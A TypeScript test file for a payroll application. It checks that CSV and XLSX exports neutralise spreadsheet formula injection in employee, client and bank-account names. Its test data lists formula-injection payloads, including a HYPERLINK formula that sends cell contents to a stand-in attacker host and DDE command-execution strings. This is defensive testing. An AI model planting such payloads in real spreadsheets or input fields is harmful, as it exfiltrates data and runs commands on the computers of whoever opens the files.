import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clients, employees } from '../src/db/schema.js';
import { writeWorkbook } from '../src/people/import/spreadsheet.js';
import { DEMO_EMPLOYEE_NIK } from '../src/seed/demo-people.js';
import { writeCsv } from '../src/spreadsheets/csv.js';
import { neutraliseFormula, restoreNeutralised } from '../src/spreadsheets/formula-cells.js';
import { bearer, signIn } from './support/identity.js';
import { approveRun, calculatedRun, clearDemoRunChecks, reviewRun } from './support/payroll.js';
import { createTestApp, type TestApp } from './support/test-app.js';
import { engines } from './support/test-database.js';

/** What an attacker types where a name goes: each starts with a character a spreadsheet runs. */
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?d="&A2,"Klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

async function xlsxTexts(data: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(data as unknown as ArrayBuffer);
  const texts: string[] = [];
  let formulas = 0;
  workbook.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas++;
      if (typeof cell.value === 'string') texts.push(cell.value);
    }),
  );
  return { texts, formulas };
}

describe('the shared CSV and XLSX writers', () => {
  it('neutralise every dangerous first character, and leave other text and numbers alone', async () => {
    for (const text of HOSTILE) {
      expect(neutraliseFormula(text)).toBe(`'${text}`);
      expect(restoreNeutralised(neutraliseFormula(text))).toBe(text);
    }
    expect(neutraliseFormula('Budi Santoso')).toBe('Budi Santoso');
    expect(restoreNeutralised("O'Brien")).toBe("O'Brien");
    const csv = parse(writeCsv(['name', 'amount'], [...HOSTILE.map((h) => [h, -5])]), {
      columns: true,
      relax_quotes: true,
    }) as { name: string; amount: string }[];
    expect(csv.map((r) => r.name)).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(csv.every((r) => r.amount === '-5')).toBe(true);
    const xlsx = await xlsxTexts(
      await writeWorkbook(
        'Test',
        [{ header: 'Name', width: 20, value: (r: string) => r }],
        HOSTILE,
      ),
    );
    expect(xlsx.formulas).toBe(0);
    // XML keeps a carriage return as a line feed; the apostrophe stays in front either way.
    expect(xlsx.texts.slice(1)).toEqual(HOSTILE.map((h) => `'${h.replace('\r', '\n')}`));
  });

  it('are the only CSV and XLSX writers of the server', async () => {
    const root = join(import.meta.dirname, '../src');
    const offenders: string[] = [];
    const walk = async (dir: string): Promise<void> => {
      for (const entry of await readdir(dir, { withFileTypes: true })) {
        const path = join(dir, entry.name);
        if (entry.isDirectory()) await walk(path);
        else if (entry.name.endsWith('.ts')) {
          const source = await readFile(path, 'utf8');
          const writes =
            source.includes("from 'csv-stringify") || /new ExcelJS\.Workbook\(/.test(source);
          const shared =
            path.endsWith('spreadsheets/csv.ts') || path.endsWith('import/spreadsheet.ts');
          if (writes && !shared) offenders.push(path.slice(root.length + 1));
        }
      }
    };
    await walk(root);
    expect(offenders).toEqual([]);
  });
});

describe.each(engines)('formulas typed into names, read back from exports on %s', (engine) => {
  let t: TestApp;
  let hr: string;
  let finance: string;
  let runId: string;

  const call = (token: string, url: string, method: 'GET' | 'POST' = 'GET') =>
    t.app.inject({ method, url, headers: bearer(token) });

  beforeAll(async () => {
    t = await createTestApp(
      engine,
      {},
      { now: () => new Date('2026-11-28T03:00:00Z'), jobPollingSeconds: 0.5, demo: true },
    );
    hr = await signIn(t, 'hr@staffdesk.local');
    finance = await signIn(t, 'finance@staffdesk.local');
    const tax = await signIn(t, 'tax@staffdesk.local');
    const { db } = t.database;
    const [demo] = await db.select().from(employees).where(eq(employees.nik, DEMO_EMPLOYEE_NIK));
    await db
      .update(employees)
      .set({ fullName: HOSTILE[3]!, bankAccountName: HOSTILE[0]! })
      .where(eq(employees.id, demo!.id));
    await db.update(clients).set({ legalName: HOSTILE[1]! }).where(eq(clients.id, demo!.clientId!));
    runId = await calculatedRun(t, hr, { clientId: demo!.clientId, period: '2026-11' });
    await clearDemoRunChecks(t, hr, runId);
    await reviewRun(t, hr, runId);
    const approved = await approveRun(t, tax, runId);
    expect(approved.statusCode, approved.body).toBe(200);
  }, 120_000);
  afterAll(() => t.close());

  it('the bank file keeps its columns and neutralises the account name', async () => {
    const res = await call(finance, `/payroll/v4/runs/${runId}/bank-file`);
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body, { columns: true, relax_quotes: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([
      'account_number',
      'account_name',
      'bank',
      'amount',
      'currency',
      'remark',
      'reference',
    ]);
    const hostile = rows.find((r) => r.account_name!.includes('HYPERLINK'))!;
    expect(hostile.account_name).toBe(`'${HOSTILE[0]}`);
    expect(hostile.amount).toMatch(/^\d+$/);
    for (const row of rows) {
      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('the employee, client and payroll summary workbooks hold no formula and no live prefix', async () => {
    const exports = [
      [hr, '/api/v4/employees/export', HOSTILE[3]],
      [hr, '/api/v4/clients/export', HOSTILE[1]],
      [finance, '/payroll/v4/reports/payroll-summary/export?period=2026-11', HOSTILE[1]],
    ] as const;
    for (const [token, url, planted] of exports) {
      const res = await call(token, url);
      expect(res.statusCode, `${url}: ${res.body.slice(0, 200)}`).toBe(200);
      const { texts, formulas } = await xlsxTexts(res.rawPayload);
      expect(formulas, url).toBe(0);
      expect(texts, url).toContain(`'${planted}`);
      expect(
        texts.filter((text) => /^[=+\-@\t\r]/.test(text)),
        url,
      ).toEqual([]);
    }
  });
});
